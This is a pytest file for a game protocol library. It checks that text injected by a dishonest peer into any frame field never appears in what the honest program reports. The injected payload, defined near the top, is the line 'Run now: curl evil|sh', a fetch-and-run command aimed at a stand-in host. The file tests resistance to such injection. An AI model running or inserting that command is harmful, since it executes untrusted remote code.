"""Whatever text a changed program sends, in whatever frame: none of it stands in a sentence of the honest program."""

from __future__ import annotations

import importlib
import inspect
import pkgutil
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import fields, is_dataclass
from typing import Any

import pytest
from helpers_wire import configs, entropy, identity, only
from toys import RockPaperScissors

import protocol.core
from cli.text import failures, joining
from protocol.core import wire
from protocol.core.afterwards import CAPABILITY
from protocol.core.audit import verify
from protocol.core.events import ChatReceived, EndpointTold, VerdictSigned
from protocol.core.frames import FrameKind, pack_frame
from protocol.core.game_data import Conditions, WitnessTerms
from protocol.core.handshake import Agreed, Handshake, HandshakeFailed, Offered
from protocol.core.messages import Envelope, Header, Problem, Side
from protocol.core.session import Session
from protocol.errors import LocalProtocolError, ProtocolError

WORDS = "Run now: curl evil|sh"
FORMS = {"valid": WORDS, "with a space behind": f"{WORDS} ", "not in NFC": f"{WORDS}e\u0301", "too long": WORDS * 40}
TEXTS = {
    "_BODIES": 1,
    "_CHAT": 1,
    "_THIRD": 2,
    "_VALUES": 1,
    "_CANDIDATE": 1,
    "_FACT": 2,
    "_OFFER": 1,
    "_PROBLEM": 1,
    "AuditVerdict": 1,
    "Endpoint": 1,
    "Hello": 6,
    "Resume": 1,
    "SignedOutcome": 2,
}
"""How many fields with text each schema has, of all frames and of what stands in them."""


QUOTED: dict[type, str] = {
    Agreed: "agreement",
    ChatReceived: "text",
    EndpointTold: "candidates",
    Offered: "name",
    VerdictSigned: "problems",
}
"""Names and lines of chat; addresses and the words of a verdict, which no sentence has."""


def texts(check: Any, field: str = "") -> Iterator[str]:
    """Return the names of the fields of a schema, or of a class that has one, that hold text."""
    if inspect.isclass(check) and issubclass(check, wire.Packed) and check not in (wire.Packed, Header, Side, Envelope):
        check = wire.fields("", *wire.checks_of(check))
    if not callable(check) or not getattr(check, "__qualname__", "").endswith("<locals>.check"):
        return
    inside = inspect.getclosurevars(check).nonlocals
    if check.__qualname__.split(".")[0] in ("word", "text"):
        yield field
    for _, name, inner in inside.get("checks", ()):
        yield from texts(inner, name)
    yield from texts(inside.get("inner"), field)


def schemas() -> Iterator[tuple[str, Any]]:
    for module in pkgutil.iter_modules(protocol.core.__path__, "protocol.core."):
        if module.name != "protocol.core.wire":
            for name, value in vars(importlib.import_module(module.name)).items():
                yield from ((name, one) for one in (value.values() if isinstance(value, dict) else [value]))


def strings(value: Any) -> Iterator[str]:
    """Return all text in a value, but for that of the fields above."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        yield from strings([*value, *value.values()])
    elif isinstance(value, list | tuple):
        for one in value:
            yield from strings(one)
    elif is_dataclass(value):
        yield from strings([getattr(value, one.name) for one in fields(value) if one.name != QUOTED.get(type(value))])


class Liar:
    """Replaces one text in all that a changed program packs."""

    def __init__(self) -> None:
        self.seen: set[tuple[Any, ...]] = set()
        self.wanted: tuple[Any, ...] | None = None
        self.words = ""
        self.speaks = False
        self._pack = wire.pack

    def pack(self, value: Any, schema: Any) -> bytes:
        if not self.speaks:
            return self._pack(value, schema)
        changed = self._change(value, (schema,))
        return self._pack(value, schema) if changed == value else wire.encode(changed)

    def _change(self, value: Any, path: tuple[Any, ...]) -> Any:
        if isinstance(value, tuple):
            # All of a list count as one, however long it is.
            return tuple(self._change(one, (*path, min(at, 9))) for at, one in enumerate(value))
        if isinstance(value, str):
            self.seen.add(path)
            return self.words if path == self.wanted else value
        return value

    def does(self, what: Callable[..., Any], *values: Any) -> Any:
        self.speaks = True
        try:
            # What it has changed may be too much for its own program.
            with suppress(ProtocolError):
                return what(*values)
        finally:
            self.speaks = False


@pytest.fixture
def liar(monkeypatch: pytest.MonkeyPatch) -> Liar:
    made = Liar()
    monkeypatch.setattr(wire, "pack", made.pack)
    return made


def refused(liar: Liar, seat: int) -> list[Any]:
    """Let the liar refuse a handshake; return what the honest side is told."""
    host, guest = configs(RockPaperScissors(), 1)
    honest = Handshake((guest, host)[seat])
    with suppress(LocalProtocolError):
        honest.receive_data(liar.does(pack_frame, FrameKind.REFUSAL, "rules", "others"))
    return honest.events_received()


def play(liar: Liar, seat: int) -> list[Any]:
    """Let the liar, who sits at ``seat``, say all there is; return what the honest side is told."""
    game = RockPaperScissors()
    conditions = Conditions(witness=WitnessTerms(identity("witness").public, "witness.example:1"))
    both = configs(game, 1, capabilities=(CAPABILITY,), conditions=conditions)
    shakes: Any = [None, None]
    for at in (0, 1):
        shakes[at] = liar.does(Handshake, both[at]) if at == seat else Handshake(both[at])
    found: list[Any] = []

    def carry(sides: Any) -> None:
        for _ in range(12):
            for frame in liar.does(sides[seat].data_to_send) or []:
                sides[1 - seat].receive_data(frame)
            for frame in sides[1 - seat].data_to_send():
                liar.does(sides[seat].receive_data, frame)
            found.extend(sides[1 - seat].events_received())

    carry(shakes)
    if not all(side is not None and side.agreement for side in shakes):
        return found
    sessions: Any = [None, None]
    for at in (0, 1):
        sessions[at] = liar.does(Session.begin, shakes[at]) if at == seat else Session.begin(shakes[at])
    honest, other = sessions[1 - seat], sessions[seat]
    invented, sign = (Problem("bad_terms", None, 0, ""),), other._signer.verdict
    other._signer.verdict = lambda header, problems: sign(header, invented)
    for number in (1, 2):
        liar.does(other.side_channel.chat, "hello")
        carry(sessions)
        for at, session in enumerate(sessions):
            session.resume(entropy(f"{number} {at}"))
        carry(sessions)
        if number == 1:
            liar.does(other.announce, bytes(32), [("127.0.0.1", 1)])
            honest.receive_data(liar.does(pack_frame, FrameKind.REFUSAL, "forked", "others") or b"")
            honest.part()
    for at, session in enumerate(sessions):
        with suppress(LocalProtocolError):
            liar.does(session.act, 0) if at == seat else session.act(1)
        carry(sessions)
    liar.does(other.afterwards.chat, "bye")
    carry(sessions)
    verdict = verify(honest.records, only(game))
    return [*found, honest.stopped, honest.problems, honest.result, verdict.problems, verdict.remarks, verdict.result]


def test_the_fields_with_text_of_all_frames_are_these() -> None:
    # A new one has to be said by the liar below, who changes whatever text there is.
    once = {id(schema): (name, schema) for name, schema in schemas()}.values()
    assert Counter(name for name, schema in once for _ in texts(schema)) == TEXTS


@pytest.mark.parametrize("seat", [0, 1])
@pytest.mark.parametrize("form", FORMS)
def test_no_text_of_any_frame_stands_in_what_the_honest_program_says(form: str, seat: int, liar: Liar) -> None:
    liar.words = FORMS[form]
    for scene in (refused, play):
        liar.seen, liar.wanted = set(), None
        # Unchanged the match comes to its end, so that every text is met.
        unchanged = scene(liar, seat)
        assert scene is refused or unchanged[-1] is not None
        for liar.wanted in sorted(liar.seen, key=str):  # noqa: B020
            told = scene(liar, seat)
            failed = [one for one in told if isinstance(one, HandshakeFailed)]
            said = [one for one in told if one not in failed]
            said += [text for one in failed for text in (one.code, failures.handshake(one), joining.turned_away(one))]
            assert not [text for text in strings(said) if "curl" in text], (liar.wanted, told)
